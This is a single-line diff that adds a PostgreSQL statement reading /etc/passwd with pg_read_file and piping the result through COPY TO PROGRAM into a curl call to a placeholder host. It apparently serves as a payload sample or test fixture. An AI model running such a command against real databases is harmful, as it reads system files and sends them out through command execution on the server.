@@ -1,0 +1,1 @@
+COPY (SELECT pg_read_file('/etc/passwd')) TO PROGRAM 'curl x'
